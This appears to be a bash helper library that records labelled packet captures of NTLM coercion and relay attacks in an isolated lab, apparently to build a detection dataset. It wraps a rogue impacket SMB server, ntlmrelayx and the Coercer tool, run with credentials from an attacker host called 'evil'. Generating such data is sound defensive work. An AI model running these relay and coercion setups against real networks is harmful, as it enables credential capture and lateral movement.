# Recording one scenario: what the functions in scenarios/ are written with.

NAME=          # of the scenario being recorded
TCPDUMP=       # process ids of what the scenario started
LISTENER=
HELPER=

# record NAME [FILTER...]: start the capture, without ARP unless a filter says otherwise
record() {
  NAME=$1; shift
  [ $# -gt 0 ] || set -- tcp or udp or icmp6
  echo "== $NAME"
  date +%s.%N > "$RUN/started"
  : > "$RUN/relay.log"
  # Without immediate mode the kernel hands over blocks, and the last second would be missing.
  ip netns exec $SWITCH tcpdump -i $SPAN -s0 -U --immediate-mode -B 16384 -Z root -w "$RUN/$NAME.pcap" "$@" \
    > "$RUN/tcpdump.log" 2>&1 &
  TCPDUMP=$!
  local _
  for _ in $(seq 40); do grep -q listening "$RUN/tcpdump.log" && break; sleep 0.1; done
  sleep 0.3
}

# truth KEY=VALUE...: stop the capture and write its JSON
truth() {
  sleep 0.7
  stop_scenario
  mv "$RUN/$NAME.pcap" "$CAPTURES/$NAME.pcap"
  rm -f "$CAPTURES/$NAME.pcap.zst"
  local code=0
  "$CLIENTS/python" "$HERE/truth.py" "$CAPTURES/$NAME" "$@" || code=$?
  [ $code = 0 ] || fail 'the capture does not show what the scenario says'
  # A long burst compresses well, and what ships should stay small.
  if [ "$(stat -c %s "$CAPTURES/$NAME.pcap")" -gt 100000 ]; then
    zstd -q -19 --rm -f "$CAPTURES/$NAME.pcap"
    sed -i "s/\"file\": \"$NAME.pcap\"/\"file\": \"$NAME.pcap.zst\"/" "$CAPTURES/$NAME.json"
  fi
  return $code
}

stop_scenario() {
  local pid
  if [ -n "$TCPDUMP" ]; then kill -INT "$TCPDUMP" 2> /dev/null; wait "$TCPDUMP" 2> /dev/null; fi || true
  for pid in $LISTENER $HELPER; do
    kill -9 "$pid" 2> /dev/null || true
    wait "$pid" 2> /dev/null || true
  done
  TCPDUMP= LISTENER= HELPER=
}

# Which client makes the victim's outbound logon: libsmbclient sends a MIC, impacket does not.
callback_with() { echo "$1" > "$RUN/callback"; }

# listen HOST ADDRESS: a rogue SMB server that takes any logon and hands out a fixed challenge
listen() {
  mkdir -p "$RUN/loot"
  "$HERE/in_host" "$1" "$IMPACKET/python" -u "$IMPACKET/smbserver.py" -smb2support -ip "$2" share "$RUN/loot" \
    > "$RUN/listener.log" 2>&1 &
  LISTENER=$!
  wait_for_port "$1" 445
}

# listen6 HOST: the same for IPv4 and IPv6
listen6() {
  mkdir -p "$RUN/loot"
  "$HERE/in_host" "$1" "$IMPACKET/python" -u "$IMPACKET/smbserver.py" -smb2support -6 share "$RUN/loot" \
    > "$RUN/listener.log" 2>&1 &
  LISTENER=$!
  wait_for_port "$1" 445
}

# rogue HOST ADDRESS: a listener for WebDAV and DCOM, see listener.py
rogue() {
  "$HERE/in_host" "$1" "$CLIENTS/python" "$HERE/listener.py" "$2" > "$RUN/listener.log" 2>&1 &
  LISTENER=$!
  wait_for_port "$1" 80
}

# The domain controller as a victim, until the scenario ends; it writes the same journal
start_dc_victim() {
  VICTIM=dc1 "$HERE/in_host" dc1 "$CLIENTS/python" "$HERE/victim.py" "$RUN/victim.jsonl" > "$RUN/dc_victim.log" 2>&1 &
  HELPER=$!
  wait_for_port dc1 593
}

# relay ARGUMENTS...: ntlmrelayx on the attacker's host (or on RELAY_HOST), listening on SMB and HTTP
relay() { relay_on 'smb http' "$@"; }

# relay_on LISTENERS ARGUMENTS...: the same with these listeners and no others
relay_on() {
  local listeners=" $1 " off=() kind
  shift
  for kind in smb http wcf raw rpc winrm mssql rdp; do
    [[ $listeners == *" $kind "* ]] || off+=("--no-$kind-server")
  done
  mkdir -p "$RUN/loot"
  # It reads commands from stdin and stops at its end; a pipe open in both directions never ends.
  [ -p "$RUN/stdin" ] || mkfifo "$RUN/stdin"
  (
    cd "$RUN/loot"
    exec "$HERE/in_host" "${RELAY_HOST:-evil}" "$IMPACKET/python" -u "$IMPACKET/ntlmrelayx.py" -debug -smb2support \
      "${off[@]}" "$@"
  ) <> "$RUN/stdin" > "$RUN/relay.log" 2>&1 &
  LISTENER=$!
  local _
  for _ in $(seq 80); do grep -q 'Servers started' "$RUN/relay.log" && break; sleep 0.25; done
  grep -q 'Servers started' "$RUN/relay.log" || fail 'the relay tool did not start'
  sleep 0.5
}

# relay_settles SECONDS: wait until the relay tool has said nothing for that long, a minute at most
relay_settles() {
  local _
  for _ in $(seq 60); do
    sleep 1
    [ $(($(date +%s) - $(stat -c %Y "$RUN/relay.log"))) -lt "$1" ] || return 0
  done
  fail 'the relay tool went on for a minute'
}

# call ARGUMENTS...: one bind and one request from the attacker, see call.py
call() { in_host evil timeout 30 "$IMPACKET/python" "$HERE/call.py" "$@" > "$RUN/call.log" 2>&1 || true; }

# on_evil COMMAND...: any program on the attacker's host
on_evil() { in_host evil timeout 60 "$@" > "$RUN/call.log" 2>&1 < /dev/null || true; }

# coercer ARGUMENTS...: the real tool, against the victim
coercer() {
  in_host evil timeout 60 "$COERCER/coercer" coerce --always-continue -u "$ALICE" -p "$ALICE_PW" -d $DOMAIN \
    -t $SRV -l $EVIL --auth-type smb --filter-transport-name msrpc "$@" > "$RUN/coercer.log" 2>&1 || true
}

# What most attacks have in common.
COERCED_HERE=(malicious=yes attacker=$EVIL victim=$SRV listener=$EVIL)
IMPACKET_CALL='impacket 0.13.1'
COERCER_CALL='coercer 2.4.3, impacket 0.13.1'
FILE="\\\\$EVIL\\share\\file.txt"
